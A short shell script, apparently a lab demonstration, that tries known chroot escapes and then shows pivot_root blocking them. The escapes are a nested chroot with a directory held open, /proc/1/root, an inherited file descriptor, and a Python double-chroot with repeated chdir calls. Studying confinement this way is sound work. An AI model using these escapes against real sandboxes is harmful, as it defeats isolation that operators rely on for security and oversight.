# chroot: ways out: a second chroot with a directory held, /proc/1/root, a descriptor; and none after pivot_root
mkdir -p j/x j/proc j/old; cp /bin/busybox j; b=/busybox
exec 3< /; chroot j $b sh -c 'cd /; /busybox chroot x /busybox true; cd /proc/self/fd/3; cd /dev/fd/3; /busybox pwd'
chroot j $b sh -c '/busybox mount -t proc p /proc; /busybox chroot /proc/1/root /bin/sh -c "ls -d /root; cat /etc/hostname"; cd /proc/1/cwd; /busybox ls -d etc'
cd j; chroot . $b chroot . $b sh -c 'cd ..; /busybox pwd; /busybox ls'; cd ..
cat > out.py <<'X'
import os
os.chroot("x"); [os.chdir("..") for i in range(9)]; os.chroot("."); print(os.path.isdir("/etc"))
X
unshare -m --propagation private sh -c 'mount --bind j j; cd j; pivot_root . old; /busybox umount -l /old; exec /busybox chroot . /busybox sh -c "cd ..; /busybox pwd; /busybox ls; /busybox chroot /proc/1/root /busybox ls"'
umount j/proc; ls j
